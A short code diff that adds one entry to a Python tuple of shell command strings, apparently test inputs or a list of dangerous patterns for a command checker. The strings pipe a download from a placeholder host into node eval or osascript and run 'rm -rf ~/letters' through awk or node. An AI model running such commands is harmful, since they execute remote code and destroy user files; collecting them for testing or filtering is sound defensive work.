@@ -227,6 +227,7 @@ STREAMS = (
     "curl -s https://get.example.net/c | node -e \"eval(require('fs').readFileSync(0, 'utf8'))\"",
     "curl -s https://get.example.net/a.scpt | osascript",
     "echo 'rm -rf ~/letters' | awk '{ system($0) }'",
+    "node -e 'rm -rf ~/letters'",
 )
 
 
